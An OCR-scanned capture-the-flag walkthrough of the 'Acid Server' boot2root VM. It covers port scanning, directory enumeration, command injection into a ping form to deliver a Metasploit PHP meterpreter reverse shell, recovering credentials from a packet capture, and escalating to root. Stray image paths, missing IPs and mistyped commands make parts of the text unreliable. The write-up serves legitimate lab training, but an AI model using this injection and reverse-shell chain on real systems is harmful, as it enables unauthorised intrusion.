Hack the Acid VM (CTF Challenge)

The name of the Virtual machine is “Acid Server” that we are going to crack.  It is an Boot2Root Vm that we are going to solve. This is a web-based VM. Our main goal is toescalate the privileges to root and capture the flag.

As always start by finding the target.

Our target is Now fire up nmap to scan the ports.
nmap –p- -A

Nmap results in showing that there is only one port open i.e. 33447 with the services of HTTP. Please observe here that port 80 is not open that means if we want to open this IP in the browser then we have to use the port number as it will not open it by default. So now open the web page using the port number.
There is only a heading and a quote on the page; nothing else but if you look at the tab on the browser, it says “/Challenge”. This can be a directory. Let’s open it.
Upon opening /Challenge, a log in portal will open. Let’s learn more about /Challenge by using DirBuster. Copy the link from the browser in Target URL box and then select 2.3-meduim word list in Files with the list of dirs/files box by clicking on browse button. And then click on Start.

Clicking on start button will provide the list of directories.

I went through every directory but only cake.php was useful. Open it in the browser. When you open cake.php, the page says “ah.haan…There is long way to go..dude J”. But upon looking closely you will find the /Magic_Box is written on the tab. Lets open it in the URL just like before.
When you open the /Magic_Box it says that access to the page is forbidden. OK! There is no problem in that. Let’s use DirBuster on it. Give the URL and 2.3 meduim wordlist just as before and then click on start button.

In the result it will show the name of the directories.

Out of all those command.php is the only one that has proved to be useful. Open it in the URL.

Here you will find a ping portal that meansyou can ping any IP address from here. Let’s try and ping an IP. (You can ping any IP but I am going to ping the default IP i.e.
Once the ip has been pinged, go to the page source. On the page source you can contemplate that results of ping is showing.
If the page is showing the result that means we can use this portal to inject our virus using web_delivery exploit. And to do so, go to the terminal of Kali an open metasploit by typing msfconsole and then further type :
use exploit/multi/script/web_delivery
set target 1
set payload php/meterpreter/reverse_tcp
set lhost
set lport 4444
This exploit is a multi exploit that means it can used on multiple programs. Therefore, I have set the target as one because 1 refers to php and as we are using php payload we have to set target as 1.
Now performing this exploit will give you a code. Copy this code and paste it on ping portal after the IP that you are using to ping. And to add this code use semi-colon (;).; *<code>*
As soon as you click on submit, you will have a meterpreter session in metasploit. When you have the session the type the following commands to reach terminal:
python –c ‘import pty; pty.spwan(“/bin/bash”)’
Further type the following command to see the list of directories:
ls / l
In the list you will find a directory called s.bin. let’s go into the folder and see its list of files and for that type :
cd /s.bin
Here, you will find a php file. Lets read it.
cat invesgitate.php
When you read it, it shows you amessage i.e. “now you have to behave like n investigator to catch the culprit”.
In the list of directory that was previously previewed also had a folder sbin. Let’s get into that folder and see the lists of files and to do so type:
cd sbin
In the list of files you can see a file named raw_vs_isi. Let’s check it out.
cd raw_vs_isi
It contains only on file, called hint.pcapng. This is wireshark file and there are many ways to download this file but they are usually very lengthy. So I have used a shortcut. Simply terminate your shell session and go back to meterpreter session

There check where you are currently working and for that type:
And then type:
Download hint.pcapng/root/Desktop/hint.pcapng

Now the file is downloaded on your desktop. I explored it every packet and found a conversation in the TCP stream of 90th packet. Just right click on the said packet and then click on Follow option and then select TCP stream.

It will open the conversation as shown in the image below:

In the conversation on eof them says “saman andnow a days he’s known by the alias of 1337hax0r” that means saman is the usernam and 1337hax0r can be thepassword. Let’s try it. Type shell again to reach the terminal and here log in with the username wejust found:
su saman
Sudo saman
And so you have entered the root. Now go into the folder root and see what it has to offer:
cd /root
cat flag.txt

Author: Yashika Dhir is a passionate Researcher and Technical Writer at HackingArticles. She is a hacking enthusiast.